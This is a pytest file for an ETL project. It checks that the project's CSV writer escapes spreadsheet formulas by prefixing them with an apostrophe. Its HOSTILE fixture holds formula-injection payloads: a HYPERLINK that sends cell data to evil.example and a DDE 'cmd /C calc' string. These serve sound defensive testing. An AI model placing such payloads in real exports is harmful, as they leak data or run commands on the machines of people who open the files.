"""Issue 12, item 4: one CSV writer for every CSV the project produces, and
it never writes a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
from contextlib import redirect_stderr, redirect_stdout
from datetime import date
from pathlib import Path

import pytest

from etl.cli import main
from etl.csvfile import csv_bytes, spreadsheet_cell, write_csv
from etl.records import EVENT_FIELDS
from etl.store import Store
from tests.etl.test_store import article, event

HOSTILE = {
    "source": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "location": "+cmd|' /C calc'!A0",
    "actor1": "@SUM(A1:A9)",
    "actor2": "-2+3",
    "claimed_by": "\t=1+1",
    "url": "\r=1+1",
}


@pytest.mark.parametrize("text", list(HOSTILE.values()))
def test_formula_text_becomes_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    (None, ""), (float("nan"), ""), (3, 3), (-2.5, -2.5), (0.0, 0.0), (True, True),
    (date(2025, 10, 12), "2025-10-12"), ("Kabul", "Kabul"), ("a=b", "a=b"), ("", "")])
def test_data_stays_data(value, cell):
    assert spreadsheet_cell(value) == cell


def test_write_csv_escapes_every_cell_and_keeps_numbers():
    out = io.StringIO()
    write_csv([{"a": "=1+1", "b": -3}, {"a": "ok"}], fieldnames=["a", "b"], out=out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a", "b"], ["'=1+1", "-3"], ["ok", ""]]
    assert csv_bytes([], fieldnames=["a"]).startswith(b"\xef\xbb\xbf")


def _hostile_store(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'h.db'}"
    a = article("Strikes hit Kabul on Monday, killing three.")
    hostile = dataclasses.replace(event(a), **HOSTILE)
    Store(url).add_article(a, resolutions=[], events_=[hostile])
    return url


def test_sitrep_events_csv_escapes_formulas(tmp_path: Path):
    url = _hostile_store(tmp_path)
    out = io.StringIO()
    with redirect_stdout(out), redirect_stderr(io.StringIO()):
        assert main(["events", "--db", url, "--format", "csv"]) == 0
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert list(row) == list(EVENT_FIELDS)
    for name, text in HOSTILE.items():
        assert row[name] == "'" + text, name
    assert row["fatalities"] == "3" and row["longitude"] == "69.17"


def test_sitrep_export_data_csv_escapes_formulas(tmp_path: Path):
    url = _hostile_store(tmp_path)
    target = tmp_path / "events.csv"
    with redirect_stdout(io.StringIO()), redirect_stderr(io.StringIO()):
        assert main(["export", "data", "--format", "csv", "-o", str(target), "--db", url]) == 0
    (row,) = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))
    for name, text in HOSTILE.items():
        assert row[name] == "'" + text, name
